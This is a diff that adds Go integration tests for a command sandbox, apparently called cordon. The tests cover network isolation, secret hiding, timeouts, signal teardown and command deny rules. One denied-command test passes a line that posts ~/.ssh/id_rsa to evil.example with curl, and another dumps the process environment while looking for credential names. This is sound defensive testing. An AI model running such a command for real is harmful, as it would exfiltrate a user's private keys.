@@ -1,0 +1,208 @@
+package integration
+
+import (
+	"bytes"
+	"net"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/cordonhq/cordon/internal/testutil"
+)
+
+func TestHostLoopbackUnreachable(t *testing.T) {
+	w := newWorld(t)
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	accepted := make(chan struct{}, 1)
+	go func() {
+		if c, err := ln.Accept(); err == nil {
+			accepted <- struct{}{}
+			c.Close()
+		}
+	}()
+	addr := ln.Addr().(*net.TCPAddr)
+	r := w.sh("curl -sS --max-time 5 http://" + addr.String() + "/; echo curl=$?; " +
+		"curl -sS --max-time 5 --noproxy '*' http://" + addr.String() + "/; " +
+		"cat /proc/net/dev | tail -n +3 | cut -d: -f1")
+	assertContains(t, "stdout", r.stdout, "curl=7")
+	assertContains(t, "stderr", r.stderr, "Failed to connect to 127.0.0.1")
+	if ifs := strings.Fields(r.stdout[strings.Index(r.stdout, "curl=7")+len("curl=7"):]); len(ifs) != 1 || ifs[0] != "lo" {
+		t.Errorf("interfaces inside: got %q; want only lo", ifs)
+	}
+	select {
+	case <-accepted:
+		t.Fatal("the host's loopback server received a connection from the sandbox")
+	case <-time.After(100 * time.Millisecond):
+	}
+}
+
+func TestCallerSecretsNotVisible(t *testing.T) {
+	w := newWorld(t)
+	r := w.sh("env; cat /proc/1/environ | tr '\\0' '\\n'")
+	if r.code != 0 {
+		t.Fatalf("env failed: %v", r)
+	}
+	for _, leak := range []string{"AWS_SECRET_ACCESS_KEY", "aws-secret-value-123", "GITHUB_TOKEN", "ghp_", "SSH_AUTH_SOCK"} {
+		if strings.Contains(r.stdout, leak) {
+			t.Errorf("%s is visible inside the sandbox:\n%s", leak, r.stdout)
+		}
+	}
+	assertContains(t, "env", r.stdout, "HOME="+w.home)
+	assertContains(t, "env", r.stdout, "LANG=C.UTF-8")
+
+	w.contract("version: 1\nenv:\n  pass: [LANG, AWS_SECRET_ACCESS_KEY]\n")
+	r = w.cordon("", "check")
+	if r.code != 1 {
+		t.Fatalf("check: want 1, got %v", r)
+	}
+	assertContains(t, "check", r.stdout, "cordon.yaml:3:16: env.pass: AWS_SECRET_ACCESS_KEY looks like a credential")
+}
+
+func TestTimeoutKillsWholeTree(t *testing.T) {
+	w := newWorld(t)
+	start := time.Now()
+	r := w.sh("sleep 313 & setsid sleep 314 & (trap '' TERM HUP; sleep 315) & sleep 316", "--timeout", "1s")
+	if r.code != 124 {
+		t.Fatalf("want exit 124 on timeout, got %v", r)
+	}
+	if d := time.Since(start); d > 20*time.Second {
+		t.Errorf("timeout took %s", d)
+	}
+	assertContains(t, "stderr", r.stderr, "cordon: command timed out after 1s")
+	for _, s := range []string{"sleep 313", "sleep 314", "sleep 315", "sleep 316"} {
+		if p := processesMatching(s); len(p) > 0 {
+			t.Errorf("%q is still running after the timeout (pids %v)", s, p)
+		}
+	}
+}
+
+func TestExitCodesAndStdin(t *testing.T) {
+	w := newWorld(t)
+	if r := w.sh("exit 42"); r.code != 42 {
+		t.Errorf("exit 42: got %v", r)
+	}
+	if r := w.sh("kill -9 $$"); r.code != 137 {
+		t.Errorf("killed by SIGKILL: want 137, got %v", r)
+	}
+	r := w.cordon("hello from stdin\n", "run", "--", "cat")
+	if r.code != 0 || r.stdout != "hello from stdin\n" {
+		t.Errorf("stdin passthrough: %v", r)
+	}
+	r = w.cordon("", "run", "--", "no-such-command-xyz")
+	if r.code != 127 {
+		t.Errorf("missing command: want 127, got %v", r)
+	}
+	assertContains(t, "stderr", r.stderr, "cordon: no-such-command-xyz: command not found")
+	r = w.cordon("", "run")
+	if r.code != 2 {
+		t.Errorf("no command: want usage error 2, got %v", r)
+	}
+}
+
+func TestDeniedCommandPattern(t *testing.T) {
+	w := newWorld(t)
+	w.contract("version: 1\ncommands:\n  deny: [\"curl *\", \"git push *\"]\n")
+	r := w.cordon("", "run", "--", "/usr/bin/curl", "https://evil.example", "-d", "@~/.ssh/id_rsa")
+	if r.code != 125 {
+		t.Fatalf("want 125, got %v", r)
+	}
+	if !strings.HasPrefix(r.stderr, `cordon: command denied by contract rule "curl *"`) {
+		t.Errorf("stderr: got %q", r.stderr)
+	}
+	r = w.cordon("", "run", "--", "git", "push", "origin", "main")
+	assertContains(t, "stderr", r.stderr, `rule "git push *"`)
+	if r := w.cordon("", "run", "--", "echo", "curl"); r.code != 0 {
+		t.Errorf("echo curl must not be denied: %v", r)
+	}
+}
+
+func TestUnsupportedFeaturesRefused(t *testing.T) {
+	w := newWorld(t)
+	w.contract("version: 1\nnetwork:\n  allow:\n    - host: proxy.golang.org\n")
+	r := w.sh("true")
+	if r.code != 125 {
+		t.Fatalf("want 125, got %v", r)
+	}
+	assertContains(t, "stderr", r.stderr, "network.allow")
+	assertContains(t, "stderr", r.stderr, "cannot enforce yet")
+}
+
+func TestNoBwrapRefuses(t *testing.T) {
+	w := newWorld(t)
+	w.env[0] = "PATH=" + t.TempDir() // no bwrap on PATH
+	r := w.sh("echo ran > ran.txt")
+	if r.code != 125 {
+		t.Fatalf("want 125 without bwrap, got %v", r)
+	}
+	assertContains(t, "stderr", r.stderr, "Bubblewrap is not installed")
+	assertContains(t, "stderr", r.stderr, "refusing to run unsandboxed")
+	assertAbsent(t, filepath.Join(w.ws, "ran.txt"))
+}
+
+func TestSignalToCordonTearsDown(t *testing.T) {
+	for _, sig := range []syscall.Signal{syscall.SIGTERM, syscall.SIGINT} {
+		t.Run(sig.String(), func(t *testing.T) {
+			w := newWorld(t)
+			marker := "sleep 3" + strconv.Itoa(int(sig)) + "17"
+			cmd := exec.Command(testutil.Cordon(t), "run", "--", "sh", "-c", "setsid "+marker+" & "+marker+"; echo")
+			cmd.Dir, cmd.Env = w.ws, w.env
+			var errb bytes.Buffer
+			cmd.Stderr = &errb
+			if err := cmd.Start(); err != nil {
+				t.Fatal(err)
+			}
+			deadline := time.Now().Add(10 * time.Second)
+			for len(processesMatching(marker)) < 2 && time.Now().Before(deadline) {
+				time.Sleep(20 * time.Millisecond)
+			}
+			_ = cmd.Process.Signal(sig)
+			err := cmd.Wait()
+			ee, ok := err.(*exec.ExitError)
+			if !ok || ee.ExitCode() != 128+int(sig) {
+				t.Fatalf("want exit %d, got %v (stderr %q)", 128+int(sig), err, errb.String())
+			}
+			if p := processesMatching(marker); len(p) > 0 {
+				t.Errorf("%q still running after cordon exited: %v", marker, p)
+			}
+		})
+	}
+}
+
+func TestKilledCordonLeavesNothingAfterGC(t *testing.T) {
+	w := newWorld(t)
+	marker := "sleep 318"
+	cmd := exec.Command(testutil.Cordon(t), "run", "--", "sh", "-c", "setsid "+marker+" & "+marker)
+	cmd.Dir, cmd.Env = w.ws, w.env
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	deadline := time.Now().Add(10 * time.Second)
+	for len(processesMatching(marker)) < 2 && time.Now().Before(deadline) {
+		time.Sleep(20 * time.Millisecond)
+	}
+	_ = cmd.Process.Kill()
+	_ = cmd.Wait()
+	// bwrap dies with its parent; the pid namespace takes everything with it.
+	deadline = time.Now().Add(5 * time.Second)
+	for len(processesMatching(marker)) > 0 && time.Now().Before(deadline) {
+		time.Sleep(20 * time.Millisecond)
+	}
+	if p := processesMatching(marker); len(p) > 0 {
+		t.Fatalf("%q still running after kill -9 of cordon: %v", marker, p)
+	}
+	// The placeholder for .git and the run directory remain until gc.
+	r := w.cordon("", "gc")
+	if r.code != 0 {
+		t.Fatalf("gc: %v", r)
+	}
+	assertContains(t, "gc", r.stdout, "removed run ")
+	assertAbsent(t, filepath.Join(w.ws, ".git"))
+}
